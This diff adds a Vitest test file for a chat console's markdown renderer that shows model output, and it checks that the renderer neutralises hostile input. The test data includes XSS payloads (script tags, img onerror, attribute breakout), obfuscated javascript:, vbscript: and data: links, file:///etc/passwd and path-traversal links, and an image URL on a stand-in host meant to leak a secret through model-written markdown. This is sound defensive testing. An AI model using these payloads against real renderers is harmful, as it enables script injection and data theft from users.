@@ -1,0 +1,64 @@
+import { describe, expect, test } from 'vitest'
+import { createMarkdown, linkTarget } from '../../src/chat/console/public/markdown.js'
+
+const fileUrl = (path: string) => `/files/${encodeURIComponent(path)}`
+const toHtml = createMarkdown(fileUrl)
+
+describe('Markdown from a model', () => {
+  test('shows raw HTML and does not obey it', () => {
+    const html = toHtml('<script>alert(1)</script>\n\nHello <img src=x onerror=alert(1)> <b>you</b>')
+
+    expect(html).not.toMatch(/<(script|img|b)\b/)
+    expect(html).toContain('&lt;script&gt;')
+  })
+
+  test.each([
+    'javascript:alert(1)',
+    'JaVaScRiPt:alert(1)',
+    'java\tscript:alert(1)',
+    ' javascript:alert(1)',
+    '\u0001javascript:alert(1)',
+    'data:text/html,<script>alert(1)</script>',
+    'vbscript:x',
+    'file:///etc/passwd',
+    '//evil.example/x',
+    '\\\\evil.example\\x',
+    '/api/v1/requests/req_1/answer',
+    '../../secret',
+    'uploads/%2e%2e/secret',
+  ])('does not lead to %j', (href) => {
+    expect(linkTarget(href, fileUrl)).toBeUndefined()
+  })
+
+  test('leads outside in a tab of its own that knows nothing of this one', () => {
+    expect(toHtml('[site](https://example.com/?a=1&b=2 "a \\"title\\"")')).toBe(
+      '<p><a href="https://example.com/?a=1&amp;b=2" title="a &quot;title&quot;" rel="noopener noreferrer" target="_blank">site</a></p>\n',
+    )
+  })
+
+  test('leads to the files of the thread', () => {
+    expect(linkTarget('outputs/a%20b.md', fileUrl)).toEqual({ kind: 'file', href: '/files/outputs%2Fa%20b.md' })
+  })
+
+  test('loads no picture from elsewhere', () => {
+    const html = toHtml('![secret](https://evil.example/?q=secret) ![own](outputs/chart.png) ![x](javascript:alert(1))')
+
+    expect(html.match(/<img /g)).toHaveLength(1)
+    expect(html).toContain('<img src="/files/outputs%2Fchart.png" alt="own" loading="lazy">')
+    expect(html).toContain('<a href="https://evil.example/?q=secret"')
+  })
+
+  test('cannot leave an attribute', () => {
+    const html = toHtml('![" onerror="alert(1)](outputs/a.png) [x](https://e.com/"onmouseover="alert(1))')
+
+    expect(html).not.toMatch(/" on\w+="/)
+  })
+
+  test('draws tables, code and tasks', () => {
+    const html = toHtml('| a |\n|---|\n| 1 |\n\n```js\n<b>\n```\n\n- [x] done')
+
+    expect(html).toContain('<table>')
+    expect(html).toContain('<code class="language-js">&lt;b&gt;')
+    expect(html).toContain('<input type="checkbox" disabled checked>')
+  })
+})
